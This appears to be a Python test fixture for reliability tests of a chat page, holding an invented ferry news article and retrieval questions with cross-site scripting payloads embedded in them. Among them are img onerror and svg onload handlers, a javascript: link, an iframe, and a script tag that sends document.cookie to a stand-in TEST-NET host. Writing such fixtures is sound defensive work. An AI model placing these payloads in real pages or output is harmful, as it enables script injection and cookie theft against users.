"""Hostile text for the reliability tests: markup that must stay text, instructions that must not be obeyed.

Everything is made up; the hosts are TEST-NET addresses (203.0.113.0/24) that nothing answers.
"""

# An article whose sentences carry every kind of active content a chat page could be tricked by.
HOSTILE_ARTICLE = """Wrenfield ferry timetable changes after winter storms

The Wrenfield ferry company said on Monday that the winter timetable will run until the end of March, after storms damaged the slipway at Tollard Point.

Captain Iolanthe Markby said the pictures <img src="http://203.0.113.21/pixel.gif" onerror="window.__pwned=1;document.title='pwned'"> showed the slipway cracked in three places.

Passengers were told to check the website ![timetable](http://203.0.113.22/tracker.png) and [the notice](javascript:window.__pwned=2) before travelling to Tollard Point.

The company added <script>window.__pwned=3;fetch('http://203.0.113.23/steal?c='+document.cookie)</script> that repairs to the slipway would cost 48,000 pounds.

A spokesman for the harbour <svg onload="window.__pwned=4"></svg> <iframe src="http://203.0.113.24/frame"></iframe> said the ferry carried 1,900 passengers in January.

Engineers <a href="http://203.0.113.25/phish" onclick="window.__pwned=5">click here</a> will inspect the slipway again in April, the ferry company said.
"""

# Questions that retrieve the hostile article's sentences (answers and sources quote the markup).
HOSTILE_QUESTIONS = [
    "What did Captain Iolanthe Markby say the pictures of the slipway showed?",
    "What were passengers told to check before travelling to Tollard Point?",
    "How much would repairs to the Wrenfield slipway cost?",
    "How many passengers did the Wrenfield ferry carry in January?",
    "When will engineers inspect the Wrenfield slipway again?",
    "Tell me about <img src=x onerror=\"window.__pwned=6\"> the Wrenfield ferry ![q](http://203.0.113.26/q.png)",
]
